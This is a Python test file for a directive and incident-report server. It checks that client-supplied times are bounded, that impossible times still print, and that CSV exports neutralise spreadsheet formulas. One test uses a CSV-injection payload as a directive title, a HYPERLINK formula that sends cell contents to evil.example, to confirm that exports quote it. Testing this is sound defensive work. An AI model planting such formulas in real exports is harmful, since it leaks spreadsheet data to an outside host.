"""Times a client sends are bounded before they are stored; a time no calendar holds still prints; exports hold no formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from server.command.service import STREAM, Caller
from server.times import MAX_AHEAD, MAX_BEHIND, format_time
from signaling.command import DirectiveIssue, DirectiveUpdate, ReportFile

from .conftest import CommandPlatform, Refused

YEAR = 365 * 86400.0


@pytest.mark.parametrize("deadline, ahead", [("ack_by", 1e300), ("ack_by", 400 * 86400.0), ("feedback_by", 1e300)])
async def test_a_deadline_more_than_a_year_ahead_is_refused_and_not_stored(
    command_platform: CommandPlatform, deadline: str, ahead: float,
) -> None:
    issuer = await command_platform.console("mayor", "office")
    fields = {deadline: command_platform.clock.now() + ahead}
    with pytest.raises(Refused) as refused:
        await issuer.request(DirectiveIssue(cls="mandatory", title="x", sites=["jiangbei"], **fields))  # type: ignore[arg-type]
    assert refused.value.code == "time_out_of_range" and "within a year" in str(refused.value)
    assert await command_platform.services.store.read_events(STREAM) == []


async def test_deadlines_within_a_year_and_incidents_within_five_years_are_taken(command_platform: CommandPlatform) -> None:
    now = command_platform.clock.now()
    issuer = await command_platform.console("mayor", "office")
    ok = await issuer.request(DirectiveIssue(cls="mandatory", title="x", sites=["jiangbei"], ack_by=now + YEAR,
                                             feedback_by=now + MAX_AHEAD - 1))
    with pytest.raises(Refused) as refused:
        await issuer.request(DirectiveUpdate(directive_id=ok.directive_id, reason="typo", feedback_by=now + MAX_AHEAD + 1))
    assert refused.value.code == "time_out_of_range"
    site = await command_platform.client("duty-jiangbei", "jiangbei")
    await site.request(ReportFile(occurred_at=now - 2 * YEAR, place="江堤", summary="两年前瞒报的险情"))
    for occurred in (now - MAX_BEHIND - 1, -1e300):
        with pytest.raises(Refused) as refused:
            await site.request(ReportFile(occurred_at=occurred, place="江堤", summary="x"))
        assert refused.value.code == "time_out_of_range" and "five years" in str(refused.value)


def test_a_time_no_calendar_holds_prints_as_its_number() -> None:
    assert format_time(1e300, "Asia/Shanghai") == "1e+300 (out of range)"
    assert format_time(float("nan"), "Asia/Shanghai") == "nan (out of range)"
    assert format_time(None, "Asia/Shanghai", none="—") == "—"
    assert format_time(1_800_000_000.0, "Asia/Shanghai") == "2027-01-15 16:00:00"


async def _stored_directive(command_platform: CommandPlatform, title: str = "old", ack_by: float | None = None) -> str:
    """A directive stored as the old handlers accepted it (the domain itself bounds no deadline), issued by the mayor."""
    tokens = command_platform.services.tokens
    mayor = Caller(tokens.verify_device_token(command_platform.token("mayor", "office", ("issue",))), "s-old", "127.0.0.1")
    event = await command_platform.command.service.record(mayor, "issued", {
        "directive_id": "d-old", "cls": "guidance", "title": title, "body": "", "recipients": ["jiangbei", "jiangnan"],
        "ack_by": ack_by})
    assert event.data["ack_by"] == ack_by
    return "d-old"


async def test_a_stored_huge_deadline_no_longer_breaks_detail_print_or_exports(command_platform: CommandPlatform) -> None:
    directive = await _stored_directive(command_platform, ack_by=1e300)
    base = f"{command_platform.url}/command/directives/{directive}"
    for identity, site, grants in (("mayor", "office", ("issue",)), ("duty-jiangbei", "jiangbei", ("publish",))):
        headers = {"Authorization": "Bearer " + command_platform.token(identity, site, grants)}
        for suffix in ("", "/print", "/export.csv", "/export.json"):
            async with command_platform.session.get(base + suffix, headers=headers) as resp:
                assert resp.status == 200, (site, suffix, await resp.text())
                if suffix != "/export.json":
                    assert "1e+300 (out of range)" in await resp.text()
    day = dt.datetime.fromtimestamp(command_platform.clock.now(), dt.timezone.utc).date().isoformat()
    headers = {"Authorization": "Bearer " + command_platform.token("mayor", "office", ("issue",))}
    async with command_platform.session.get(f"{command_platform.url}/command/export.csv?from={day}", headers=headers) as resp:
        assert resp.status == 200 and "1e+300 (out of range)" in await resp.text()
    async with command_platform.session.get(f"{command_platform.url}/command/export.csv?from=9999-12-31", headers=headers) as resp:
        assert resp.status == 400 and (await resp.text()).startswith("bad_range:")


async def test_the_directive_exports_quote_a_title_that_is_a_formula(command_platform: CommandPlatform) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    directive = await _stored_directive(command_platform, title=title)
    day = dt.datetime.fromtimestamp(command_platform.clock.now(), dt.timezone(dt.timedelta(hours=8))).date().isoformat()
    for path, identity, site, grants in (
        (f"/command/directives/{directive}/export.csv", "duty-jiangbei", "jiangbei", ("publish",)),
        (f"/command/export.csv?from={day}", "mayor", "office", ("issue",)),
    ):
        headers = {"Authorization": "Bearer " + command_platform.token(identity, site, grants)}
        async with command_platform.session.get(command_platform.url + path, headers=headers) as resp:
            assert resp.status == 200
            rows = list(csv.DictReader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
        assert rows and all(row["title"] == "'" + title for row in rows), path
